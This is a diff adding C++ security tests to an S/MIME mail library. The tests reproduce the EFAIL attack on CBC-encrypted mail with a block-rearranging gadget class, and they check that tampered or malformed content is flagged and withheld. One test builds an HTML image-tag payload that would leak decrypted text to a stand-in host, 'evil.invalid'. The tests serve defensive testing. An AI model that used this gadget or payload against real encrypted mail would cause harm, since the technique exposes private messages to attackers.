@@ -195,5 +195,151 @@ TEST(Attack, T30_what_stands_behind_a_ciphertext_does_not_tell_whether_it_opened
   }
 }
 
+constexpr std::size_t kBlock = 16;
+
+std::string encrypt_only(const std::string& rest, ContentCipher cipher) {
+  return seal_mail(mail_from("alice@example.org", rest), plain({encrypt_to("ec", cipher)}),
+                   {.at = kNow, .limits = {}, .form = SealOptions::Form::Der});
+}
+
+// An HTML mail as EFAIL takes it: nothing but its first block need be known.
+std::string html_mail() {
+  std::string rest = "Content-Type: text/html; charset=us-ascii\r\n\r\n";
+  for (int i = 0; i < 60; ++i) rest += "<p>a line of text that goes on for a while</p>\r\n";
+  return rest;
+}
+
+// Puts 16 octets of choice into what a CBC message decrypts to, and one block of noise before
+// them: C[i] = IV + P[1] + chosen, C[i + 1] = C[1] (EFAIL, figure 4).
+class Gadgets {
+ public:
+  Gadgets(std::string message, std::string plaintext)
+      : message_(std::move(message)), plaintext_(std::move(plaintext)) {
+    std::size_t blocks = plaintext_.size() / kBlock + 1;
+    first_ = message_.size() - blocks * kBlock;
+    // The length of the content stands between.
+    iv_ = first_ - 4 - kBlock;
+    EXPECT_EQ(message_.substr(iv_ - 2, 2), "\x04\x10");
+    EXPECT_EQ(message_.substr(first_ - 4, 2), "\x80\x82");
+    iv_octets_ = message_.substr(iv_, kBlock);
+    first_block_ = message_.substr(first_, kBlock);
+  }
+
+  void put(std::size_t block, std::string chosen) {
+    chosen.resize(kBlock, ' ');
+    for (std::size_t i = 0; i < kBlock; ++i) {
+      message_[first_ + block * kBlock + i] =
+          static_cast<char>(iv_octets_[i] ^ plaintext_[i] ^ chosen[i]);
+    }
+    message_.replace(first_ + (block + 1) * kBlock, kBlock, first_block_);
+  }
+
+  const std::string& message() const { return message_; }
+
+ private:
+  std::string message_;
+  std::string plaintext_;
+  std::string iv_octets_;
+  std::string first_block_;
+  std::size_t first_ = 0;
+  std::size_t iv_ = 0;
+};
+
+TEST(Attack, T03_blocks_rearranged_to_send_the_text_away_are_noticed) {
+  World world;
+  world.options.form = OpenOptions::Form::Content;
+  std::string cbc = encrypt_only(html_mail(), ContentCipher::Aes256Cbc);
+  Opened whole = open_mail(cbc, world.options);
+  ASSERT_EQ(whole.status(), Status::Indeterminate) << whole.text();
+  Gadgets gadgets(cbc, whole.content);
+  std::size_t block = 10;
+  for (const char* chosen : {"<img ignore='", "' src='http:", "//evil.invali", "d/", "a", "b", "c",
+                             "d", "e", "f", "g", "h"}) {
+    gadgets.put(block, chosen);
+    block += 2;
+  }
+  for (auto peel : {OpenOptions::Peel::All, OpenOptions::Peel::EncryptionOnly}) {
+    world.options.peel = peel;
+    CountingSource source(as_bytes(gadgets.message()));
+    Opened opened = open_from(source, world.options);
+    EXPECT_TRUE(opened.has(Rule::EncFailed)) << opened.text();
+    EXPECT_EQ(opened.content.find("evil"), std::string::npos);
+    // Told as late as bad padding is (T-30).
+    EXPECT_EQ(source.taken, gadgets.message().size());
+  }
+}
+
+struct Shape {
+  const char* what;
+  std::string rest;
+};
+
+std::string with_noise(std::string text, char octet) {
+  text.insert(text.size() - 4, 1, octet);
+  return text;
+}
+
+// What a malleable cipher must not give out, and a signature or a tag may.
+std::vector<Shape> noisy() {
+  std::string part = "--q\r\nContent-Type: text/plain\r\n\r\na\r\n";
+  std::string mixed = "Content-Type: multipart/mixed; boundary=q\r\n\r\n";
+  std::string declared =
+      "Content-Type: text/plain; charset=iso-8859-1\r\n"
+      "Content-Transfer-Encoding: ";
+  return {
+      {"a control in the header", "X-A: \x01\r\n" + html_mail()},
+      {"octets that are no UTF-8 in the header", "X-A: \xff\xfe\r\n" + html_mail()},
+      {"a control in a part's header", mixed + "--q\r\nX-A: \x01\r\n\r\na\r\n--q--\r\n"},
+      {"a control in the text", with_noise(html_mail(), '\x02')},
+      {"NUL in the text", with_noise(html_mail(), '\0')},
+      {"a control in 8bit", with_noise(declared + "8bit\r\n\r\ntext\r\n", '\x7f')},
+      {"an octet past ASCII in 7bit", with_noise(declared + "7bit\r\n\r\ntext\r\n", '\xe4')},
+      {"an octet past ASCII in base64",
+       with_noise(declared + "base64\r\n\r\nYWFh\r\n\r\n", '\xe4')},
+      {"a control in the preamble", mixed + "\x05\r\n" + part + "--q--\r\n"},
+      {"a control in the epilogue", mixed + part + "--q--\r\n\x05\r\n"},
+      {"no last delimiter", mixed + part},
+  };
+}
+
+TEST(Attack, T03_what_a_malleable_cipher_gives_looks_like_mail_or_stays_in) {
+  World world;
+  for (const Shape& shape : noisy()) {
+    Opened cbc = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Cbc), world.options);
+    EXPECT_TRUE(cbc.has(Rule::EncFailed)) << shape.what << "\n" << cbc.text();
+    EXPECT_FALSE(cbc.verdict) << shape.what;
+    Opened gcm = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Gcm), world.options);
+    EXPECT_EQ(gcm.status(), Status::Indeterminate) << shape.what << "\n" << gcm.text();
+    EXPECT_TRUE(gcm.has(Rule::EncSenderUnknown)) << shape.what << "\n" << gcm.text();
+    Recipe sealed = plain({sign_as("alice", "alice", Sign::Form::Opaque), encrypt_to("ec")});
+    Opened inside =
+        open_mail(seal_mail(mail_from("alice@example.org", shape.rest), sealed), world.options);
+    EXPECT_FALSE(inside.has(Rule::EncFailed)) << shape.what << "\n" << inside.text();
+  }
+}
+
+TEST(Attack, T03_mail_that_is_odd_but_no_noise_comes_out_of_a_malleable_cipher) {
+  World world;
+  std::string type = "Content-Type: text/plain; charset=";
+  const Shape shapes[] = {
+      {"UTF-8 that nobody declared", type + "utf-8\r\n\r\nGr\xc3\xbc\xc3\x9f"
+                                            "e\r\n"},
+      {"Latin 1", type + "iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGr\xfc\xdf"
+                         "e\r\n"},
+      {"ISO 2022", type + "iso-2022-jp\r\n\r\n\x1b$B4A;z\x1b(B\r\n"},
+      {"UTF-8 in the header", "X-A: \xc3\xbc\r\n" + html_mail()},
+      {"a file of DOS", type + "us-ascii\r\n\r\n\ta\f\r\n\x1a\r\n"},
+      {"a part that is binary",
+       "Content-Type: multipart/mixed; boundary=q\r\nContent-Transfer-Encoding: binary\r\n\r\n"
+       "--q\r\nContent-Transfer-Encoding: binary\r\n\r\n" +
+           std::string(3, '\0') + "\x01\r\n--q--\r\n"},
+  };
+  for (const Shape& shape : shapes) {
+    Opened opened = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Cbc), world.options);
+    EXPECT_EQ(opened.status(), Status::Indeterminate) << shape.what << "\n" << opened.text();
+    EXPECT_TRUE(opened.has(Rule::EncUnauthenticated)) << shape.what << "\n" << opened.text();
+  }
+}
+
 }  // namespace
 }  // namespace bulla::testing
